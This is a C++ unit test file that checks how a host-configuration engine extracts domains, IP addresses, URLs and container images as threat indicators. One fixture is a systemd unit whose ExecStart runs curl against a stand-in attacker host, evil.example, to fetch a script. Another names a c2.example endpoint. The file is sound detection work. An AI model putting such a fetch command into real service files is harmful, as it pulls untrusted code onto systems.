#include "engine/shown.h"

#include <gmock/gmock.h>

namespace driftcast {
namespace {

using intel::IndicatorType;
using testing::IsEmpty;
using testing::UnorderedElementsAre;

std::vector<ObservableName> Of(const std::string& kind, const std::string& name,
                               const std::vector<std::pair<std::string, std::string>>& keys) {
  ResourceState state;
  state.exists = true;
  for (const auto& [path, value] : keys) {
    KeyState key;
    key.path = path;
    key.observed = Value::Text(value);
    state.keys.push_back(std::move(key));
  }
  return ShownBy(kind, name, state);
}

ObservableName Domain(const char* name) { return {IndicatorType::kDomain, name}; }
ObservableName Address(const char* text) { return {IndicatorType::kAddress, text}; }
ObservableName Url(const char* text) { return {IndicatorType::kUrl, text}; }
ObservableName Image(const char* text) { return {IndicatorType::kImage, text}; }

TEST(ShownTest, NamesInSettingsOfAHost) {
  EXPECT_THAT(
      Of("file", "/etc/resolv.conf",
         {{"nameserver[]", "203.0.113.53"}, {"search", "corp.example b.example"}}),
      UnorderedElementsAre(Address("203.0.113.53"), Domain("corp.example"), Domain("b.example")));
  EXPECT_THAT(Of("file", "/etc/hosts",
                 {{"host[192.0.2.7].name[]", "db.corp.example"},
                  {"host[127.0.0.1].name[]", "localhost.localdomain"},
                  {"host[0.0.0.0].name[]", "blocked.example"},
                  {"host[::1].name[]", "ip6-localhost"}}),
              UnorderedElementsAre(Address("192.0.2.7"), Domain("db.corp.example")))
      << "what is sent nowhere is blocked, not used";
  EXPECT_THAT(
      Of("file", "/etc/apt/sources.list",
         {{"line[]", "deb [signed-by=/k.gpg] http://Mirror.Example:8080/debian bookworm main"}}),
      UnorderedElementsAre(Url("http://Mirror.Example:8080/debian"), Domain("mirror.example")));
  EXPECT_THAT(Of("file", "/etc/environment", {{"http_proxy", "http://u@198.51.100.3:3128/"}}),
              UnorderedElementsAre(Url("http://u@198.51.100.3:3128/"), Address("198.51.100.3")));
  EXPECT_THAT(
      Of("file", "/etc/systemd/timesyncd.conf", {{"Time.NTP", "ntp1.example ntp2.example"}}),
      UnorderedElementsAre(Domain("ntp1.example"), Domain("ntp2.example")));
  EXPECT_THAT(Of("file", "/etc/x.conf", {{"upstream", "[2001:db8::1]:53"}}),
              UnorderedElementsAre(Address("2001:db8::1")));
  EXPECT_THAT(
      Of("unit", "x.service", {{"Service.ExecStart", "/bin/curl 'https://evil.example/a.sh'"}}),
      UnorderedElementsAre(Url("https://evil.example/a.sh"), Domain("evil.example")));
  EXPECT_THAT(Of("file", "/etc/x.conf", {{"log", "access.example"}, {"server", "localhost"}}),
              IsEmpty());
  EXPECT_THAT(Of("package", "x", {{"homepage", "https://x.example/"}}), IsEmpty());
}

TEST(ShownTest, ConnectionsByAddressAndByName) {
  ResourceState state;
  state.exists = true;
  state.depends_on = {{"connects", "endpoint", "tcp/203.0.113.7:443", {}},
                      {"connects", "endpoint", "tcp/[2001:db8::1]:443", {}},
                      {"connects", "endpoint", "tcp/c2.example:443", {}}};
  EXPECT_THAT(
      ShownBy("unit", "x.service", state),
      UnorderedElementsAre(Address("203.0.113.7"), Address("2001:db8::1"), Domain("c2.example")));
}

TEST(ShownTest, ImagesWhereAConfigurationNamesThem) {
  EXPECT_THAT(Of("file", "/etc/compose.yaml",
                 {{"services.web.image", "nginx:1.25.3"}, {"services.db.image", "${DB}"}}),
              UnorderedElementsAre(Image("docker.io/library/nginx:1.25.3")));
  EXPECT_THAT(Of("file", "/etc/deployment.yaml",
                 {{"spec.template.spec.containers[web].image", "quay.io/a/b:v2"}}),
              UnorderedElementsAre(Image("quay.io/a/b:v2")));
  EXPECT_THAT(Of("file", "/etc/containers/systemd/web.container",
                 {{"Container.Image", "docker.io/grafana/grafana:10.4.2"}}),
              UnorderedElementsAre(Image("docker.io/grafana/grafana:10.4.2")));
  EXPECT_THAT(
      Of("file", "/etc/app/Containerfile",
         {{"line[]", "FROM --platform=linux/amd64 debian:12 AS build"}, {"line[1]", "RUN x"}}),
      UnorderedElementsAre(Image("docker.io/library/debian:12")));
  EXPECT_THAT(Of("container", "web", {{"image", "redis:7"}}),
              UnorderedElementsAre(Image("docker.io/library/redis:7")));
  EXPECT_THAT(Of("image", "redis:7", {{"image", "redis:7"}}), IsEmpty());
}

TEST(ShownTest, IsBounded) {
  std::vector<std::pair<std::string, std::string>> keys;
  for (int i = 0; i < 3000; ++i)
    keys.emplace_back("host[192.0.2.1].name[]", "h" + std::to_string(i) + ".example");
  EXPECT_EQ(Of("file", "/etc/hosts", keys).size(), kShownMax);
}

}  // namespace
}  // namespace driftcast
